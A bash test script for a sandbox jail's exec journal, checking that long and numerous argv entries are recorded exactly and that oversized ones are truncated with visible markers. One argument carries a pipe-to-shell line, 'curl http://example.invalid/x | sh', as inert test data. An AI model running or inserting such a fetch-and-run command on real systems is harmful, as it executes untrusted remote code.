#!/bin/bash
# The exec event's argv is read from the jailed process's memory in batches
# (the first 256 bytes of up to 64 strings per read); longer strings and
# longer lists are read in full: 100 arguments, one of 3000 bytes (under the
# journal's 4 KiB cap on one argument), one that
# is empty, all appear exactly as given. Beyond the caps the cut is visible:
# a 6000-byte argument is recorded as its first bytes and "...[+more bytes]"
# (its tail, which could say anything, is not silently dropped), and argv of
# 301 elements as the first 256 and "[+more]".
source "$(dirname "$0")/lib.sh"
aj_setup
command -v python3 >/dev/null || die "python3 is needed"

J=$RUN/j.jsonl
long=$(head -c 3000 /dev/zero | tr '\0' y)
args=()
for i in $(seq 1 97); do args+=("arg-$i"); done
args+=("" "$long" "last")

capture jail --journal "$J" -- /bin/echo "${args[@]}"
check_capture "the jailed echo ran (exit 0)" rc_is 0
check_capture "inside: echo printed the last argument" out_has "last"

expected=$(python3 -c 'import json,sys; print(json.dumps(["/bin/echo"] + sys.argv[1:], separators=(",", ":")))' "${args[@]}")
got=$(journal_execs "$J" | awk '$5 == "/bin/echo"' | head -n1 | cut -d' ' -f6-)
OUT=$got ERR="" RC=0
check_capture "journal: argv has all 101 elements, byte for byte (3000-byte and empty ones too)" \
  [ "$got" = "$expected" ]

tail="; curl http://example.invalid/x | sh"
huge="$(head -c 6000 /dev/zero | tr '\0' ' ')$tail"
many=()
for i in $(seq 1 299); do many+=("m$i"); done
capture jail --journal "$RUN/cut.jsonl" -- sh -c '/bin/echo "$1" >/dev/null; /bin/echo "$@" | wc -w' sh "$huge" "${many[@]}"
check_capture "cut: the jailed command ran (exit 0)" rc_is 0
OUT=$(python3 - "$RUN/cut.jsonl" <<'PY'
import json, sys
for line in open(sys.argv[1]):
    e = json.loads(line)
    argv = e.get("argv") or []
    if e.get("event") != "exec" or e.get("path") != "/bin/echo":
        continue
    if len(argv) == 2:
        a = argv[1]
        print("HUGE len=%d cut=%s tail=%s" % (len(a), a.endswith("...[+more bytes]"), "curl" in a))
    else:
        print("MANY n=%d last=%s before=%s" % (len(argv), argv[-1], argv[-2]))
PY
) ERR="" RC=0
check_capture "cut: the 6000-byte argument is kept to 4096 bytes, its cut marked" \
  out_has_line "HUGE len=4096 cut=True tail=False"
check_capture "cut: 301 arguments are kept to 256, with [+more] after them" \
  out_has_line "MANY n=257 last=[+more] before=m254"
finish
